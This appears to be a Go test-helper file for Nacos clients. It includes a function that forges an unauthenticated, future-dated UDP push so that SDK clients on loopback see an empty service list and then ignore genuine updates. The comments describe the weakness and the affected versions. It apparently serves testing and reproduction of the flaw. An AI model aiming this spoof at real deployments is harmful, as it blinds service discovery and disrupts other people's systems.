// SPDX-License-Identifier: Apache-2.0

package nacostest

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// Every naming client of the SDK opens a UDP port in this range, on all
// interfaces, for the pushes of Nacos 1.x; it cannot be turned off.
const (
	firstUDPPort = 54951
	lastUDPPort  = 55950
)

// SpoofEmptyList sends the datagram that blinds a client: an empty list of the
// service, from nobody in particular, dated ahead of the real clock. Nothing
// authenticates it. The SDK (v2.3.2 and v2.3.5) calls back with no instances, and
// then drops every genuine push until the real clock has caught up. A
// registration sent again brings no callback, so that it looks exactly like an
// operator's offline; a fresh client and the open list show the truth. All this
// was seen against 2.5.1, 3.0.3 and r-nacos 0.8.5.
//
// The datagram goes to the given ports on loopback; without any, to all SDK ports
// of this process, see [SDKPorts]: those of closed clients too, which the SDK
// leaves open, and which write the list to their cache folder. It returns when it
// has been sent, not when it has been heard.
func SpoofEmptyList(service string, ahead time.Duration, ports ...int) error {
	if len(ports) == 0 {
		var err error
		if ports, err = SDKPorts(); err != nil {
			return err
		}
	}
	key := parseService(service)
	stamp := time.Now().Add(ahead).UnixMilli()
	list, err := json.Marshal(newServiceList(key, "", nil, stamp))
	if err != nil {
		return fmt.Errorf("nacostest: SpoofEmptyList: %w", err)
	}
	datagram, err := json.Marshal(map[string]any{"type": "dom", "data": string(list), "lastRefTime": stamp})
	if err != nil {
		return fmt.Errorf("nacostest: SpoofEmptyList: %w", err)
	}
	var errs []error
	for _, port := range ports {
		if err := sendDatagram(port, datagram); err != nil {
			errs = append(errs, fmt.Errorf("nacostest: SpoofEmptyList: %w", err))
		}
	}
	return errors.Join(errs...)
}

func sendDatagram(port int, datagram []byte) error {
	c, err := net.Dial("udp", loopback(port))
	if err != nil {
		return err
	}
	_, err = c.Write(datagram)
	return errors.Join(err, c.Close())
}

// SDKPorts returns the UDP ports in the SDK's range that this process has open.
// It reads /proc, so that it is an error elsewhere than on Linux.
func SDKPorts() ([]int, error) {
	own, err := ownSockets()
	if err != nil {
		return nil, fmt.Errorf("nacostest: SDKPorts: %w", err)
	}
	var ports []int
	for _, table := range []string{"/proc/self/net/udp", "/proc/self/net/udp6"} {
		text, err := os.ReadFile(table)
		if errors.Is(err, os.ErrNotExist) {
			continue // a kernel without IPv6
		}
		if err != nil {
			return nil, fmt.Errorf("nacostest: SDKPorts: %w", err)
		}
		ports = append(ports, portsIn(string(text), own)...)
	}
	return ports, nil
}

// ownSockets returns the inodes of this process's sockets.
func ownSockets() (map[string]bool, error) {
	fds, err := filepath.Glob("/proc/self/fd/*")
	if err != nil {
		return nil, err
	}
	if len(fds) == 0 {
		return nil, errors.New("no /proc/self/fd")
	}
	own := map[string]bool{}
	for _, fd := range fds {
		target, err := os.Readlink(fd)
		if err != nil {
			continue // closed in the meantime
		}
		if inode, ok := strings.CutPrefix(target, "socket:["); ok {
			own[strings.TrimSuffix(inode, "]")] = true
		}
	}
	return own, nil
}

// portsIn reads a table of the form of /proc/net/udp: the second field is the
// local address in hexadecimal, the tenth the inode.
func portsIn(table string, own map[string]bool) []int {
	var ports []int
	for line := range strings.Lines(table) {
		fields := strings.Fields(line)
		if len(fields) < 10 || !own[fields[9]] {
			continue
		}
		_, hex, _ := strings.Cut(fields[1], ":")
		port, err := strconv.ParseUint(hex, 16, 16)
		if err == nil && port >= firstUDPPort && port <= lastUDPPort {
			ports = append(ports, int(port))
		}
	}
	return ports
}
